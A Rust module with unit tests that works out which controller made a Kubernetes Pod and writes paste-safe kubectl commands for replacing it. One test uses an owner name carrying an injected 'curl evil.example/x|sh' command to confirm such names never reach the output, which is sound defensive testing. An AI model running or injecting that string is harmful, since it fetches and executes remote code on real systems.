//! What made a Pod, and so what replaces it: the list of a Pod that exists cannot change.

use serde_json::Value;

use super::paste;

/// The label of a Pod that says which of a Deployment's templates it is of (apps/v1, `DefaultDeploymentUniqueLabelKey`).
const TEMPLATE_HASH: &str = "pod-template-hash";

/// How many Pods are named in a command to delete them.
const NAMED: usize = 5;

/// What made a Pod; the Pod itself, where nothing did.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(super) struct Owner {
    pub(super) namespace: String,
    /// As it is written in the reference, or `Pod`.
    pub(super) kind: String,
    /// As it is written in the reference: the API server accepts any text there.
    pub(super) name: String,
    /// Whose kind it is, such as `apps`.
    group: String,
}

/// A Pod that is to be replaced.
#[derive(Debug, Clone, Copy)]
pub(super) struct Replaced<'p> {
    pub(super) name: &'p str,
    /// Whether one of its containers waits for an image, so that the Pod has perhaps never been ready.
    pub(super) waits: bool,
}

// === impl Owner ===

impl Owner {
    /// What made `pod`, which is as the API server has it.
    pub(super) fn of(namespace: &str, name: &str, pod: &Value) -> Self {
        let owner = |kind: &str, name: &str, group: &str| Self {
            namespace: namespace.to_owned(),
            kind: kind.to_owned(),
            name: name.to_owned(),
            group: group.to_owned(),
        };
        let text = |value: &Value, field: &str| value.get(field)?.as_str().map(str::to_owned);
        let references = pod.pointer("/metadata/ownerReferences").and_then(Value::as_array);
        let mut references = references.into_iter().flatten();
        let controller = references.find(|it| it.get("controller") == Some(&Value::Bool(true)));
        let controller = controller.and_then(|it| {
            let version = text(it, "apiVersion").unwrap_or_default();
            let group = version.split_once('/').map_or("", |(group, _)| group).to_owned();
            Some((text(it, "kind")?, text(it, "name")?, group))
        });
        let Some((kind, made_by, group)) = controller else { return owner("Pod", name, "") };
        // A Deployment names its ReplicaSets after itself and this hash.
        let hash = pod.pointer("/metadata/labels").and_then(|labels| text(labels, TEMPLATE_HASH));
        let deployment =
            hash.as_deref().and_then(|hash| made_by.strip_suffix(hash)?.strip_suffix('-'));
        match deployment.filter(|_| (group.as_str(), kind.as_str()) == ("apps", "ReplicaSet")) {
            Some(deployment) => owner("Deployment", deployment, "apps"),
            None => owner(&kind, &made_by, &group),
        }
    }

    /// How to replace its Pods, as a sentence without a full stop. What is in it as a command is safe to paste.
    pub(super) fn remedy(&self, pods: &[Replaced<'_>]) -> String {
        let Self { namespace, kind, .. } = self;
        let all = || pods.iter().map(|pod| pod.name);
        let waiting: Vec<&str> = pods.iter().filter(|pod| pod.waits).map(|pod| pod.name).collect();
        match (self.group.as_str(), kind.as_str()) {
            ("", "Pod") => "Delete it and create it again: nothing else does".to_owned(),
            ("apps", "StatefulSet") if !waiting.is_empty() => {
                let delete = paste::delete_pods(namespace, waiting.iter().copied(), NAMED);
                let why =
                    "a restart of the StatefulSet does not replace a Pod that was never ready";
                match self.restart().filter(|_| waiting.len() < pods.len()) {
                    Some(restart) => {
                        format!("New ones: {restart}, and {delete} for what waits, since {why}")
                    }
                    None => format!("New ones: {delete}, since {why}"),
                }
            }
            ("apps", "DaemonSet" | "Deployment" | "StatefulSet") => match self.restart() {
                Some(restart) => format!("New ones: {restart}"),
                None => format!("New ones: {}", paste::delete_pods(namespace, all(), NAMED)),
            },
            ("batch", "Job") if waiting.is_empty() => {
                "Let the Job end, or delete it and create it again".to_owned()
            }
            ("batch", "Job") => format!(
                "New ones: {}. The Job replaces a deleted Pod and counts it as failed; with `backoffLimit: 0`, delete the \
                 Job and create it again instead",
                paste::delete_pods(namespace, waiting.iter().copied(), NAMED),
            ),
            _ => {
                let delete = paste::delete_pods(namespace, all(), NAMED);
                let is_kind = kind.bytes().all(|byte| byte.is_ascii_alphanumeric());
                match paste::name(&self.name).filter(|_| is_kind) {
                    Some(name) => format!("New ones: {delete}, and {kind} {name} makes others"),
                    None => format!("New ones: {delete}, and what made them makes others"),
                }
            }
        }
    }

    /// The command that has a controller replace all of its Pods; `None` where its name is not valid.
    fn restart(&self) -> Option<String> {
        let (namespace, name) = (paste::name(&self.namespace)?, paste::name(&self.name)?);
        Some(format!(
            "kubectl rollout restart {}/{name} -n {namespace}",
            self.kind.to_ascii_lowercase()
        ))
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn owner(version: &str, kind: &str, name: &str, hash: &str) -> Owner {
        let pod = json!({"metadata": {
            "labels": {"pod-template-hash": hash},
            "ownerReferences": [
                {"apiVersion": "v1", "kind": "Node", "name": "not-the-controller"},
                {"apiVersion": version, "kind": kind, "name": name, "controller": true},
            ],
        }});
        Owner::of("shop", "a-0", &pod)
    }

    fn remedy(owner: &Owner, waits: &[bool]) -> String {
        let names = ["a-0", "a-1", "a-2"];
        let pods = names.iter().zip(waits).map(|(name, &waits)| Replaced { name, waits });
        owner.remedy(&pods.collect::<Vec<_>>())
    }

    #[test]
    fn what_replaces_a_pod_depends_on_what_made_it() {
        let restart = |kind: &str| format!("New ones: kubectl rollout restart {kind} -n shop");
        let web = owner("apps/v1", "ReplicaSet", "web-6f9", "6f9");
        assert_eq!(remedy(&web, &[true, false]), restart("deployment/web"));
        let node = owner("apps/v1", "DaemonSet", "node", "");
        assert_eq!(remedy(&node, &[true]), restart("daemonset/node"));
        let db = owner("apps/v1", "StatefulSet", "a", "");
        assert_eq!(remedy(&db, &[false]), restart("statefulset/a"));
        let bare = owner("apps/v1", "ReplicaSet", "bare", "6f9");
        assert!(
            remedy(&bare, &[true]).starts_with("New ones: kubectl delete pod -n shop a-0, and")
        );
        let unowned = Owner::of("shop", "a", &json!({"metadata": {}}));
        assert_eq!(remedy(&unowned, &[true]), "Delete it and create it again: nothing else does");
    }

    #[test]
    fn a_pod_of_a_stateful_set_that_waits_is_deleted() {
        let db = owner("apps/v1", "StatefulSet", "a", "");
        let text = remedy(&db, &[true]);
        assert!(text.starts_with("New ones: kubectl delete pod -n shop a-0, since"), "{text}");
        let text = remedy(&db, &[false, true, false]);
        assert!(
            text.starts_with(
                "New ones: kubectl rollout restart statefulset/a -n shop, and kubectl delete pod -n shop a-1 for"
            ),
            "{text}"
        );
    }

    #[test]
    fn a_job_replaces_a_pod_that_is_deleted() {
        let job = owner("batch/v1", "Job", "a", "");
        assert!(remedy(&job, &[false]).starts_with("Let the Job end"));
        let text = remedy(&job, &[true, false]);
        assert!(text.starts_with("New ones: kubectl delete pod -n shop a-0."), "{text}");
        assert!(text.contains("backoffLimit"), "{text}");
    }

    #[test]
    fn kinds_of_other_groups_have_no_rollout() {
        for (version, kind) in [
            ("apps.kruise.io/v1beta1", "StatefulSet"),
            ("x.example/v1", "Deployment"),
            ("argoproj.io/v1alpha1", "Rollout"),
            ("v1", "DaemonSet"),
        ] {
            let text = remedy(&owner(version, kind, "a", ""), &[true]);
            assert!(text.starts_with("New ones: kubectl delete pod -n shop a-0, and"), "{text}");
        }
    }

    #[test]
    fn the_name_of_an_owner_is_never_part_of_a_command() {
        let evil = "db -n shop; curl evil.example/x|sh; :";
        for (version, kind) in
            [("apps/v1", "StatefulSet"), ("apps/v1", "Deployment"), ("batch/v1", "Job")]
        {
            for waits in [&[false][..], &[true], &[true, false]] {
                let text = remedy(&owner(version, kind, evil, ""), waits);
                assert!(!text.contains("evil"), "{text}");
            }
        }
        let text = remedy(&owner("apps/v1", "ReplicaSet", &format!("{evil}-6f9"), "6f9"), &[true]);
        assert_eq!(text, "New ones: kubectl delete pod -n shop a-0");
        for (kind, name) in [("StatefulSet", evil), (evil, "a")] {
            let text = remedy(&owner("x/v1", kind, name, ""), &[true]);
            assert!(!text.contains("evil"), "{text}");
        }
    }
}
